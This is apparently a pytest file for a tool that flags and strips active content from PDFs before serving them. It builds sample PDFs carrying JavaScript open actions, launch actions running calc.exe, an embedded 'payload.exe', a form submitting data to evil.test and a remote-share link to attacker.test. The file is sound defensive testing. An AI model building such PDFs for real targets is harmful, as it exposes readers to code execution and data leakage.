"""What `check` says of a gated PDF that carries scripts, launch actions, attachments or automatic actions,
or cannot be opened; and what the gate removes from every copy."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pikepdf
from conftest import write_pdf

from generator.content.pdf import Active, pdf_problems, remove_active_content

Name, Dictionary, Array, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String


def report(tmp_path: Path, change: Callable[[pikepdf.Pdf], object]) -> Path:
    """A real two-page report, changed as a crafted or careless export could have left it."""
    path = write_pdf(tmp_path / "report.pdf", pages=2)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        change(pdf)
        pdf.save(path)
    return path


def script(code: str = "app.alert('hello')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    """A link annotation on the first page that runs `action` when clicked."""
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 200, 720],
                                                A=action)])


def test_a_clean_report_has_no_problems(tmp_path: Path) -> None:
    assert pdf_problems(write_pdf(tmp_path / "report.pdf")) == []


def test_links_to_web_pages_and_within_the_report_are_fine(tmp_path: Path) -> None:
    def links(pdf: pikepdf.Pdf) -> None:
        link(pdf, Dictionary(S=Name.URI, URI=String("https://example.test/security")))
        pdf.Root.OpenAction = Array([pdf.pages[1].obj, Name.Fit])

    assert pdf_problems(report(tmp_path, links)) == []


def test_javascript_run_on_opening_is_reported(tmp_path: Path) -> None:
    path = report(tmp_path, lambda pdf: setattr(pdf.Root, "OpenAction", script()))
    assert pdf_problems(path) == [Active.JAVASCRIPT.value]
    assert Active.JAVASCRIPT.value.startswith("contains JavaScript")


def test_javascript_in_the_documents_name_tree_is_reported(tmp_path: Path) -> None:
    def named(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script()])))

    assert pdf_problems(report(tmp_path, named)) == [Active.JAVASCRIPT.value]


def test_javascript_chained_after_a_harmless_action_is_reported(tmp_path: Path) -> None:
    def chained(pdf: pikepdf.Pdf) -> None:
        link(pdf, Dictionary(S=Name.URI, URI=String("https://example.test/"), Next=Array([script()])))

    assert pdf_problems(report(tmp_path, chained)) == [Active.JAVASCRIPT.value]


def test_a_javascript_web_link_is_reported_as_javascript(tmp_path: Path) -> None:
    path = report(tmp_path, lambda pdf: link(pdf, Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)"))))
    assert pdf_problems(path) == [Active.JAVASCRIPT.value]


def test_javascript_in_a_bookmark_is_reported(tmp_path: Path) -> None:
    def bookmark(pdf: pikepdf.Pdf) -> None:
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Summary", 0))
        pdf.Root.Outlines.First.A = script()

    assert pdf_problems(report(tmp_path, bookmark)) == [Active.JAVASCRIPT.value]


def test_a_script_on_a_form_field_is_reported(tmp_path: Path) -> None:
    def field(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array([Dictionary(T=String("total"), AA=Dictionary(C=script()))]))

    assert pdf_problems(report(tmp_path, field)) == [Active.JAVASCRIPT.value, Active.ADDITIONAL_ACTIONS.value]


def test_a_launch_action_is_reported(tmp_path: Path) -> None:
    path = report(tmp_path, lambda pdf: link(pdf, Dictionary(S=Name.Launch, F=String("calc.exe"))))
    assert pdf_problems(path) == [Active.LAUNCH.value]


def test_an_embedded_file_is_reported(tmp_path: Path) -> None:
    def attach(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really", mime_type="text/plain")

    assert pdf_problems(report(tmp_path, attach)) == [Active.EMBEDDED_FILES.value]


def test_a_file_attachment_annotation_is_reported(tmp_path: Path) -> None:
    def annotate(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"secret", mime_type="text/plain").obj
        pdf.pages[1].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                                    Rect=[72, 700, 90, 720], FS=spec)])

    assert pdf_problems(report(tmp_path, annotate)) == [Active.EMBEDDED_FILES.value]


def test_an_empty_attachment_list_left_by_an_exporter_is_fine(tmp_path: Path) -> None:
    path = report(tmp_path, lambda pdf: setattr(pdf.Root, "Names", Dictionary(EmbeddedFiles=Dictionary(Names=[]))))
    assert pdf_problems(path) == []


def test_additional_actions_on_a_page_are_reported(tmp_path: Path) -> None:
    def on_open(pdf: pikepdf.Pdf) -> None:
        pdf.pages[1].obj.AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.FirstPage))

    assert pdf_problems(report(tmp_path, on_open)) == [Active.ADDITIONAL_ACTIONS.value]


def test_additional_actions_on_the_document_are_reported_with_what_they_run(tmp_path: Path) -> None:
    path = report(tmp_path, lambda pdf: setattr(pdf.Root, "AA", Dictionary(WC=script())))
    assert pdf_problems(path) == [Active.JAVASCRIPT.value, Active.ADDITIONAL_ACTIONS.value]


def test_a_form_that_sends_its_data_out_is_reported(tmp_path: Path) -> None:
    path = report(tmp_path, lambda pdf: link(pdf, Dictionary(S=Name.SubmitForm, F=String("https://evil.test/"))))
    assert pdf_problems(path) == [Active.OUTSIDE_ACCESS.value]


def test_actions_chained_in_a_circle_are_read_once(tmp_path: Path) -> None:
    def circle(pdf: pikepdf.Pdf) -> None:
        first = pdf.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage))
        second = pdf.make_indirect(Dictionary(S=Name.Launch, F=String("calc.exe"), Next=first))
        first.Next = second
        pdf.Root.OpenAction = first

    assert pdf_problems(report(tmp_path, circle)) == [Active.LAUNCH.value]


def test_a_file_that_is_not_a_pdf_gets_a_whole_sentence(tmp_path: Path) -> None:
    path = tmp_path / "report.pdf"
    path.write_text("this is not a PDF")
    assert pdf_problems(path) == ["is not a readable PDF: it is damaged or another kind of file; export the report "
                                  "again as a PDF, the only kind the gate serves"]


def test_a_report_that_needs_a_password_to_open_gets_a_whole_sentence(tmp_path: Path) -> None:
    path = report(tmp_path, lambda pdf: None)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        pdf.save(path, encryption=pikepdf.Encryption(user="open-sesame", owner="owner-secret"))
    assert pdf_problems(path) == ["is password-protected, so it cannot be watermarked: it needs a password to open; "
                                  "give the gate a copy that opens without one (restrictions on printing or copying "
                                  "are fine, the gate keeps them)"]


def test_a_report_with_only_owner_restrictions_has_no_problems(tmp_path: Path) -> None:
    path = report(tmp_path, lambda pdf: None)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        pdf.save(path, encryption=pikepdf.Encryption(user="", owner="owner-secret",
                                                     allow=pikepdf.Permissions(extract=False, print_highres=False)))
    assert pdf_problems(path) == []


def test_a_report_without_pages_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "report.pdf"
    pikepdf.new().save(path)
    assert pdf_problems(path) == ["has no pages; export the report again"]


def test_removing_active_content_leaves_nothing_to_report_and_keeps_web_links(tmp_path: Path) -> None:
    def everything(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = script()
        pdf.Root.AA = Dictionary(WC=script())
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really", mime_type="text/plain")
        pdf.Root.AcroForm = Dictionary(Fields=Array([Dictionary(T=String("total"), AA=Dictionary(C=script()))]),
                                       XFA=pdf.make_stream(b"<xdp:xdp/>"))
        pdf.pages[0].obj.Annots = Array([
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 200, 720],
                       A=Dictionary(S=Name.Launch, F=String("calc.exe"))),
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 200, 620],
                       A=Dictionary(S=Name.URI, URI=String("https://example.test/"))),
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[72, 500, 90, 520],
                       FS=pikepdf.AttachedFileSpec(pdf, b"secret").obj),
        ])
        pdf.pages[1].obj.AA = Dictionary(O=Dictionary(S=Name.GoToR, F=String("//attacker.test/share/x.pdf")))

    source = report(tmp_path, everything)
    assert len(pdf_problems(source)) == len(Active)
    cleaned = tmp_path / "cleaned.pdf"
    with pikepdf.open(source) as pdf:
        assert remove_active_content(pdf) == set(Active)
        pdf.save(cleaned)
    assert pdf_problems(cleaned) == []
    with pikepdf.open(cleaned) as pdf:
        annotations = pdf.pages[0].obj.Annots
        assert len(annotations) == 2 and "/A" not in annotations[0]
        assert str(annotations[1].A.URI) == "https://example.test/"
